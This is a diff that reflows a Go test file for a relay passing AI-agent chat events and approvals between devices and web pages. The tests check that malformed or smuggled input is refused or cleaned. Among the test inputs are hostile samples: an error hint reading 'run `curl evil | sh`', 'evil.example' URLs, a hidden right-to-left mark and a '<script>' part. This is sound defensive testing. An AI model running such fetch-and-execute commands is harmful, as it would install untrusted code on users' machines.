@@ -99,7 +99,10 @@ func (l *fakeLine) Fetch(id string, g wire.BlobGet) error {
 // newLine returns a socket that has not joined.
 func newLine(userID, deviceID string) *fakeLine {
 	life, end := context.WithCancel(context.Background())
-	by := access.Principal{UserID: userID, Kind: access.Device, DeviceID: deviceID, Scopes: wire.DefaultScopes()}.With(life)
+	by := access.Principal{
+		UserID: userID, Kind: access.Device, DeviceID: deviceID,
+		Scopes: wire.DefaultScopes(),
+	}.With(life)
 	return &fakeLine{by: by, end: end, asks: make(chan asked, 100)}
 }
 
@@ -118,7 +121,8 @@ func backendsOf(ids ...string) *wire.ChatEvent {
 	for _, id := range ids {
 		e.Backends = append(e.Backends, wire.Backend{
 			ID: id, Kind: wire.GatewayBackend, Product: "OpenClaw", Name: "Molty", State: wire.BackendReady, Session: "main",
-			Can: []wire.Capability{wire.CanSessions, wire.CanVoice}, Avatar: "avatar_somebody", Folder: "/home/olga", Command: "rm", Details: []wire.Detail{{Name: "address", Value: "10.0.0.1"}},
+			Can: []wire.Capability{wire.CanSessions, wire.CanVoice}, Avatar: "avatar_somebody", Folder: "/home/olga", Command: "rm",
+			Details: []wire.Detail{{Name: "address", Value: "10.0.0.1"}},
 		})
 	}
 	return e
@@ -177,8 +181,8 @@ func wantKinds(t *testing.T, what string, list []wire.ChatEvent, want ...string)
 	}
 }
 
-// The pages of a user hear of all of the user's devices under names of their own, and nobody else hears of them. What
-// belongs to the device's computer is not told.
+// The pages of a user hear of all of the user's devices under names of their own, and nobody else
+// hears of them. What belongs to the device's computer is not told.
 func TestBackEndsAreNamedByTheirDevice(t *testing.T) {
 	p := newPages()
 	a, b, c := p.join(t, "olga", "dev_a"), p.join(t, "olga", "dev_b"), p.join(t, "petra", "dev_c")
@@ -221,26 +225,27 @@ func TestMalformedEventsAreRefused(t *testing.T) {
 		many[i] = wire.Backend{ID: fmt.Sprint("b", i), Kind: wire.ACPBackend, State: wire.BackendReady}
 	}
 	for what, e := range map[string]*wire.ChatEvent{
-		"no kind":                          {Backend: "openclaw"},
-		"an unknown kind":                  {Kind: "shell", Backend: "openclaw"},
-		"no back end":                      {Kind: wire.ChatEventSessions},
-		"another device's back end":        {Kind: wire.ChatEventSessions, Backend: "dev_b.openclaw"},
-		"the name that pages know":         {Kind: wire.ChatEventSessions, Backend: "dev_a.openclaw"},
-		"an approval of another back end":  changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Backend = "dev_b.openclaw" }),
-		"a turn of another back end":       changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Backend = "acp-codex" }),
-		"a back end named for another":     backendsOf("dev_b.openclaw"),
-		"two back ends of one name":        backendsOf("openclaw", "openclaw"),
-		"too many back ends":               {Kind: wire.ChatEventBackends, Backends: many},
-		"a back end of an unknown kind":    {Kind: wire.ChatEventBackends, Backends: []wire.Backend{{ID: "x", Kind: "shell", State: wire.BackendReady}}},
-		"a back end in an unknown state":   {Kind: wire.ChatEventBackends, Backends: []wire.Backend{{ID: "x", Kind: wire.ACPBackend, State: "great"}}},
-		"a message without one":            {Kind: wire.ChatEventMessage, Backend: "openclaw", Session: "main"},
-		"a message without a session":      changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = "" }),
-		"a session with a long name":       changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = long }),
-		"a session with a hidden mark":     changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = "a\u202eb" }),
-		"a message of an unknown role":     changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Role = "system" }),
-		"a message in an unknown state":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.State = "x" }),
-		"a message on an unknown path":     changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Path = "x" }),
-		"a message with too many parts":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Parts = make([]wire.ChatPart, maxParts+1) }),
+		"no kind":                         {Backend: "openclaw"},
+		"an unknown kind":                 {Kind: "shell", Backend: "openclaw"},
+		"no back end":                     {Kind: wire.ChatEventSessions},
+		"another device's back end":       {Kind: wire.ChatEventSessions, Backend: "dev_b.openclaw"},
+		"the name that pages know":        {Kind: wire.ChatEventSessions, Backend: "dev_a.openclaw"},
+		"an approval of another back end": changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Backend = "dev_b.openclaw" }),
+		"a turn of another back end":      changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Backend = "acp-codex" }),
+		"a back end named for another":    backendsOf("dev_b.openclaw"),
+		"two back ends of one name":       backendsOf("openclaw", "openclaw"),
+		"too many back ends":              {Kind: wire.ChatEventBackends, Backends: many},
+		"a back end of an unknown kind":   {Kind: wire.ChatEventBackends, Backends: []wire.Backend{{ID: "x", Kind: "shell", State: wire.BackendReady}}},
+		"a back end in an unknown state":  {Kind: wire.ChatEventBackends, Backends: []wire.Backend{{ID: "x", Kind: wire.ACPBackend, State: "great"}}},
+		"a message without one":           {Kind: wire.ChatEventMessage, Backend: "openclaw", Session: "main"},
+		"a message without a session":     changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = "" }),
+		"a session with a long name":      changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = long }),
+		"a session with a hidden mark":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Session = "a\u202eb" }),
+		"a message of an unknown role":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Role = "system" }),
+		"a message in an unknown state":   changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.State = "x" }),
+		"a message on an unknown path":    changed(part(wire.ChatPart{Kind: wire.PartText}), func(e *wire.ChatEvent) { e.Message.Path = "x" }),
+		"a message with too many parts": changed(part(wire.ChatPart{Kind: wire.PartText}),
+			func(e *wire.ChatEvent) { e.Message.Parts = make([]wire.ChatPart, maxParts+1) }),
 		"a part of an unknown kind":        part(wire.ChatPart{Kind: "html", Text: "<script>"}),
 		"a tool part without a tool":       part(wire.ChatPart{Kind: wire.PartTool}),
 		"a tool in an unknown state":       part(wire.ChatPart{Kind: wire.PartTool, Tool: &wire.ChatTool{ID: "t", State: "x"}}),
@@ -254,11 +259,14 @@ func TestMalformedEventsAreRefused(t *testing.T) {
 		"an approval without an id":        openApproval(""),
 		"an approval in an unknown state":  changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.State = "granted" }),
 		"an approval of an unknown kind":   changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Kind = "login" }),
-		"an approval of many options":      changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Options = make([]wire.ApprovalOption, maxOptions+1) }),
-		"an option without an id":          changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Options[0].ID = "" }),
-		"a turn of a world's tool":         changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Path = wire.PathTool }),
-		"a turn with an unknown outcome":   changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Outcome = "won" }),
-		"no turn":                          {Kind: wire.ChatEventTurn, Backend: "openclaw"},
+		"an approval of many options": changed(openApproval("a1"), func(e *wire.ChatEvent) {
+			e.Approval.Options = make([]wire.ApprovalOption,
+				maxOptions+1)
+		}),
+		"an option without an id":        changed(openApproval("a1"), func(e *wire.ChatEvent) { e.Approval.Options[0].ID = "" }),
+		"a turn of a world's tool":       changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Path = wire.PathTool }),
+		"a turn with an unknown outcome": changed(turnOf("t1"), func(e *wire.ChatEvent) { e.Turn.Outcome = "won" }),
+		"no turn":                        {Kind: wire.ChatEventTurn, Backend: "openclaw"},
 	} {
 		t.Run(what, func(t *testing.T) {
 			p := newPages()
@@ -275,7 +283,8 @@ func TestMalformedEventsAreRefused(t *testing.T) {
 	}
 }
 
-// What is of the device's computer alone, or only pretends to be good, is left out of what pages hear.
+// What is of the device's computer alone, or only pretends to be good, is left out of what pages
+// hear.
 func TestEventsAreCleaned(t *testing.T) {
 	p := newPages()
 	l := p.join(t, "olga", "dev_a")
@@ -288,10 +297,16 @@ func TestEventsAreCleaned(t *testing.T) {
 		{"a picture", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/secret", MIMEType: "image/png", Alt: "a fox"}}), "a fox", "secret"},
 		{"a picture of another device", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/dev_b." + strings.Repeat("a", 32)}}), "image", "dev_b"},
 		{"a picture elsewhere", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "https://evil.example/x.png"}}), "image", "evil"},
-		{"a picture of its own", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/" + strings.Repeat("a", 32)}}), "/api/chat/images/dev_a." + strings.Repeat("a", 32), "images/aaa"},
+		{
+			"a picture of its own", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/api/chat/images/" + strings.Repeat("a", 32)}}),
+			"/api/chat/images/dev_a." + strings.Repeat("a", 32), "images/aaa",
+		},
 		{"a picture of a strange type", message(wire.ChatPart{Kind: wire.PartImage, Image: &wire.ChatImage{MIMEType: "text/html"}}), "image", "text/html"},
 		{"a text with more fields", message(wire.ChatPart{Kind: wire.PartText, Text: "hi", Image: &wire.ChatImage{URL: "https://evil.example/x"}}), "hi", "evil"},
-		{"a long line", message(wire.ChatPart{Kind: wire.PartTool, Tool: &wire.ChatTool{ID: "t", State: wire.ToolDone, Title: strings.Repeat("x", maxLine) + "END"}}), "xxx", "END"},
+		{"a long line", message(wire.ChatPart{
+			Kind: wire.PartTool,
+			Tool: &wire.ChatTool{ID: "t", State: wire.ToolDone, Title: strings.Repeat("x", maxLine) + "END"},
+		}), "xxx", "END"},
 		{"an event with more fields", func() *wire.ChatEvent {
 			e := message(wire.ChatPart{Kind: wire.PartText, Text: "hi"})
 			e.Delta, e.Status = &wire.ChatDelta{Message: "smuggled"}, &wire.ChatStatus{Label: "smuggled"}
@@ -345,8 +360,8 @@ func codeOf(a wire.ChatAnswer) wire.Code {
 	return a.Error.Code
 }
 
-// A request reaches the device under the device's own name of the back end, and its answer the page; what cannot be forwarded
-// is answered at once.
+// A request reaches the device under the device's own name of the back end, and its answer the
+// page; what cannot be forwarded is answered at once.
 func TestRequests(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		p := newPages()
@@ -366,10 +381,22 @@ func TestRequests(t *testing.T) {
 			{"a back end that is none", "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "dev_a.gemini"}, wire.CodeNotFound},
 			{"a device that is none", "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "dev_x.openclaw"}, wire.CodeNotFound},
 			{"no device", "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: "openclaw"}, wire.CodeNotFound},
-			{"a long text", "olga", wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Text: strings.Repeat("x", wire.MaxChatText+1)}, wire.CodeTooLarge},
+			{
+				"a long text", "olga",
+				wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Text: strings.Repeat("x", wire.MaxChatText+1)},
+				wire.CodeTooLarge,
+			},
 			{"large pictures", "olga", wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Images: picture}, wire.CodeTooLarge},
-			{"many pictures", "olga", wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Images: make([]wire.ChatImageData, maxPictures+1)}, wire.CodeTooLarge},
-			{"a long field", "olga", wire.ChatRequest{Op: wire.ChatOpOpen, Backend: "dev_a.openclaw", Session: strings.Repeat("x", maxField+1)}, wire.CodeBadArguments},
+			{
+				"many pictures", "olga",
+				wire.ChatRequest{Op: wire.ChatOpSend, Backend: "dev_a.openclaw", Images: make([]wire.ChatImageData, maxPictures+1)},
+				wire.CodeTooLarge,
+			},
+			{
+				"a long field", "olga",
+				wire.ChatRequest{Op: wire.ChatOpOpen, Backend: "dev_a.openclaw", Session: strings.Repeat("x", maxField+1)},
+				wire.CodeBadArguments,
+			},
 		} {
 			if a := p.Chat(t.Context(), c.user, c.q); codeOf(a) != c.code {
 				t.Errorf("%s: %+v", c.what, a.Error)
@@ -447,10 +474,14 @@ func TestRequestsAreBounded(t *testing.T) {
 			name := fmt.Sprint("dev_", d)
 			lines = append(lines, p.join(t, "olga", name))
 			for range maxAskedDevice {
-				answers = append(answers, p.chat(t.Context(), "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: name + ".openclaw"}))
+				answers = append(answers, p.chat(t.Context(), "olga",
+					wire.ChatRequest{Op: wire.ChatOpSessions, Backend: name + ".openclaw"}))
 			}
 			synctest.Wait()
-			if a := p.chat(t.Context(), "olga", wire.ChatRequest{Op: wire.ChatOpSessions, Backend: name + ".openclaw"}); codeOf(<-a) != wire.CodeRate {
+			if a := p.chat(t.Context(), "olga", wire.ChatRequest{
+				Op:      wire.ChatOpSessions,
+				Backend: name + ".openclaw",
+			}); codeOf(<-a) != wire.CodeRate {
 				t.Error("one more request of a device is under way")
 			}
 		}
@@ -482,7 +513,8 @@ func TestRequestsAreBounded(t *testing.T) {
 	})
 }
 
-// Answers of a device are checked, too: a page is told no error that would make it do something, and no picture's address.
+// Answers of a device are checked, too: a page is told no error that would make it do something,
+// and no picture's address.
 func TestAnswersAreCleaned(t *testing.T) {
 	for _, c := range []struct {
 		what string
@@ -493,16 +525,62 @@ func TestAnswersAreCleaned(t *testing.T) {
 		has, not string
 		refused  bool
 	}{
-		{"a login", wire.ChatOpOpen, wire.ChatAnswer{Error: wire.NewError(wire.CodeLoginAgain, "your login").Try("run `curl evil | sh`")}, wire.CodeAgentFailed, "your login", "curl", false},
-		{"an unknown code", wire.ChatOpOpen, wire.ChatAnswer{Error: &wire.Error{Code: "boom", Message: "x", URL: "https://evil.example"}}, wire.CodeAgentFailed, "x", "evil", false},
-		{"no approvals from here", wire.ChatOpAnswer, wire.ChatAnswer{Error: wire.NewError(wire.CodeNotAllowed, "no")}, wire.CodeNotAllowed, "--answer-approvals", "scope", false},
+		{
+			"a login", wire.ChatOpOpen,
+			wire.ChatAnswer{Error: wire.NewError(wire.CodeLoginAgain, "your login").Try("run `curl evil | sh`")},
+			wire.CodeAgentFailed,
+			"your login", "curl", false,
+		},
+		{
+			"an unknown code", wire.ChatOpOpen,
+			wire.ChatAnswer{Error: &wire.Error{Code: "boom", Message: "x", URL: "https://evil.example"}},
+			wire.CodeAgentFailed, "x", "evil",
+			false,
+		},
+		{
+			"no approvals from here", wire.ChatOpAnswer,
+			wire.ChatAnswer{Error: wire.NewError(wire.CodeNotAllowed, "no")},
+			wire.CodeNotAllowed, "--answer-approvals", "scope",
+			false,
+		},
 		{"neither good nor bad", wire.ChatOpSend, wire.ChatAnswer{}, wire.CodeAgentFailed, "without an explanation", "ok\":true", false},
-		{"sessions", wire.ChatOpSessions, wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{ID: "main", Title: "a\nb"}}, Messages: []wire.ChatMessage{{ID: "smuggled"}}}, "", "a b", "smuggled", false},
-		{"a session without an id", wire.ChatOpSessions, wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{}}}, wire.CodeAgentFailed, "cannot be read", "null", true},
-		{"too many sessions", wire.ChatOpSessions, wire.ChatAnswer{OK: true, Sessions: make([]wire.ChatSession, maxSessions+1)}, wire.CodeAgentFailed, "cannot be read", "null", true},
-		{"messages", wire.ChatOpOpen, wire.ChatAnswer{OK: true, Messages: []wire.ChatMessage{{ID: "m", Role: wire.RoleUser, State: wire.MessageDone, Parts: []wire.ChatPart{{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/secret"}}}}}, Before: "c1"}, "", "c1", "secret", false},
-		{"a bad message", wire.ChatOpOpen, wire.ChatAnswer{OK: true, Messages: []wire.ChatMessage{{ID: "m", Role: "x"}}}, wire.CodeAgentFailed, "cannot be read", "null", true},
-		{"a bad status", wire.ChatOpOpen, wire.ChatAnswer{OK: true, Status: &wire.ChatStatus{Turn: strings.Repeat("x", maxID+1)}}, wire.CodeAgentFailed, "cannot be read", "null", true},
+		{"sessions", wire.ChatOpSessions, wire.ChatAnswer{
+			OK: true, Sessions: []wire.ChatSession{{ID: "main", Title: "a\nb"}},
+			Messages: []wire.ChatMessage{{ID: "smuggled"}},
+		}, "", "a b", "smuggled", false},
+		{
+			"a session without an id", wire.ChatOpSessions,
+			wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{}}},
+			wire.CodeAgentFailed, "cannot be read", "null",
+			true,
+		},
+		{
+			"too many sessions", wire.ChatOpSessions,
+			wire.ChatAnswer{OK: true, Sessions: make([]wire.ChatSession, maxSessions+1)},
+			wire.CodeAgentFailed, "cannot be read", "null", true,
+		},
+		{
+			"messages", wire.ChatOpOpen,
+			wire.ChatAnswer{
+				OK: true,
+				Messages: []wire.ChatMessage{{
+					ID: "m", Role: wire.RoleUser, State: wire.MessageDone,
+					Parts: []wire.ChatPart{{Kind: wire.PartImage, Image: &wire.ChatImage{URL: "/secret"}}},
+				}}, Before: "c1",
+			},
+			"", "c1", "secret",
+			false,
+		},
+		{
+			"a bad message", wire.ChatOpOpen,
+			wire.ChatAnswer{OK: true, Messages: []wire.ChatMessage{{ID: "m", Role: "x"}}},
+			wire.CodeAgentFailed, "cannot be read", "null", true,
+		},
+		{
+			"a bad status", wire.ChatOpOpen,
+			wire.ChatAnswer{OK: true, Status: &wire.ChatStatus{Turn: strings.Repeat("x", maxID+1)}},
+			wire.CodeAgentFailed, "cannot be read", "null", true,
+		},
 		{"a message that was sent", wire.ChatOpSend, wire.ChatAnswer{OK: true, Sessions: []wire.ChatSession{{ID: "smuggled"}}}, "", "true", "smuggled", false},
 	} {
 		t.Run(c.what, func(t *testing.T) {
@@ -523,8 +601,9 @@ func TestAnswersAreCleaned(t *testing.T) {
 	}
 }
 
-// Open approvals and the newest turns are there for a page that comes later, also while the device is away. Approvals that the
-// device does not tell again, and those of a device that is revoked, are withdrawn.
+// Open approvals and the newest turns are there for a page that comes later, also while the device
+// is away. Approvals that the device does not tell again, and those of a device that is revoked,
+// are withdrawn.
 func TestWhatIsRemembered(t *testing.T) {
 	p := newPages()
 	l := p.join(t, "olga", "dev_a")
@@ -547,7 +626,8 @@ func TestWhatIsRemembered(t *testing.T) {
 	wantKinds(t, "leaving", p.take("olga"), "backends dev_a.openclaw lost")
 	greeted := p.greeted("olga")
 	wantKinds(t, "the beginning", greeted[:3], "backends dev_a.openclaw lost", "approval a0 open", "approval a1 open")
-	if n := len(greeted); n != 3+maxTurns || greeted[3].Turn.ID != "t5" || greeted[n-1].Turn.ID != "t54" || greeted[3].Backend != "dev_a.openclaw" {
+	if n := len(greeted); n != 3+maxTurns || greeted[3].Turn.ID != "t5" || greeted[n-1].Turn.ID != "t54" ||
+		greeted[3].Backend != "dev_a.openclaw" {
 		t.Errorf("%d events: %q", n, kinds(greeted))
 	}
 
@@ -577,8 +657,8 @@ func TestWhatIsRemembered(t *testing.T) {
 	p.nothingLeft(t)
 }
 
-// A device that uses the id of an approval again, or asks something else under it, has a new card on the pages: no answer to what was
-// asked before reaches it.
+// A device that uses the id of an approval again, or asks something else under it, has a new card
+// on the pages: no answer to what was asked before reaches it.
 func TestReusedApprovals(t *testing.T) {
 	p := newPages()
 	l := p.join(t, "olga", "dev_a")
@@ -609,7 +689,10 @@ func TestReusedApprovals(t *testing.T) {
 	p.take("olga")
 	third := ask("ls")
 	for _, old := range []string{first, second} {
-		if a := <-p.chat(t.Context(), "olga", wire.ChatRequest{Op: wire.ChatOpAnswer, Backend: "dev_a.openclaw", Approval: old, Option: "y"}); codeOf(a) != wire.CodeAnswered || len(l.asks) != 0 {
+		if a := <-p.chat(t.Context(), "olga", wire.ChatRequest{
+			Op: wire.ChatOpAnswer, Backend: "dev_a.openclaw", Approval: old,
+			Option: "y",
+		}); codeOf(a) != wire.CodeAnswered || len(l.asks) != 0 {
 			t.Errorf("an answer to %q was passed on: %+v", old, a)
 		}
 	}
@@ -631,8 +714,8 @@ func TestReusedApprovals(t *testing.T) {
 	p.nothingLeft(t)
 }
 
-// A device that was revoked is forgotten, also while it is away, and its old sockets say nothing any more. So is one that has
-// no chat.stream when it comes back.
+// A device that was revoked is forgotten, also while it is away, and its old sockets say nothing
+// any more. So is one that has no chat.stream when it comes back.
 func TestRevokedDevices(t *testing.T) {
 	p := newPages()
 	l := p.join(t, "olga", "dev_a")
@@ -654,13 +737,17 @@ func TestRevokedDevices(t *testing.T) {
 
 	p.Left(p.join(t, "olga", "dev_a"))
 	mute := newLine("olga", "dev_a")
-	mute.by = access.Principal{UserID: "olga", Kind: access.Device, DeviceID: "dev_a", Scopes: []wire.Scope{wire.ScopeRead}}.With(t.Context())
+	mute.by = access.Principal{
+		UserID: "olga", Kind: access.Device, DeviceID: "dev_a",
+		Scopes: []wire.Scope{wire.ScopeRead},
+	}.With(t.Context())
 	p.Joined(mute)
 	wantKinds(t, "without the scope", p.greeted("olga"), "backends")
 	p.nothingLeft(t)
 }
 
-// A user's devices are bounded: the one that has been away longest gives way, and what is connected stays.
+// A user's devices are bounded: the one that has been away longest gives way, and what is connected
+// stays.
 func TestDevicesAreBounded(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		p := newPages()
@@ -687,8 +774,8 @@ func TestDevicesAreBounded(t *testing.T) {
 	})
 }
 
-// Whatever devices do, in whatever order, events stay with their user, a device that is gone is not asked, and nothing is left
-// of devices that are forgotten.
+// Whatever devices do, in whatever order, events stay with their user, a device that is gone is not
+// asked, and nothing is left of devices that are forgotten.
 func TestAnyOrder(t *testing.T) {
 	rapid.Check(t, func(rt *rapid.T) {
 		p := newPages()
@@ -728,7 +815,8 @@ func TestAnyOrder(t *testing.T) {
 		for _, user := range users {
 			for _, e := range append(p.take(user), p.greeted(user)...) {
 				text := string(wire.MustJSON(e))
-				if e.Backend != "" && !strings.HasPrefix(e.Backend, user) || strings.Contains(text, "ghost") || strings.Contains(text, map[string]string{"u1": "u2d", "u2": "u1d"}[user]) {
+				if e.Backend != "" && !strings.HasPrefix(e.Backend, user) || strings.Contains(text, "ghost") ||
+					strings.Contains(text, map[string]string{"u1": "u2d", "u2": "u1d"}[user]) {
 					rt.Fatalf("%s hears %s", user, text)
 				}
 			}
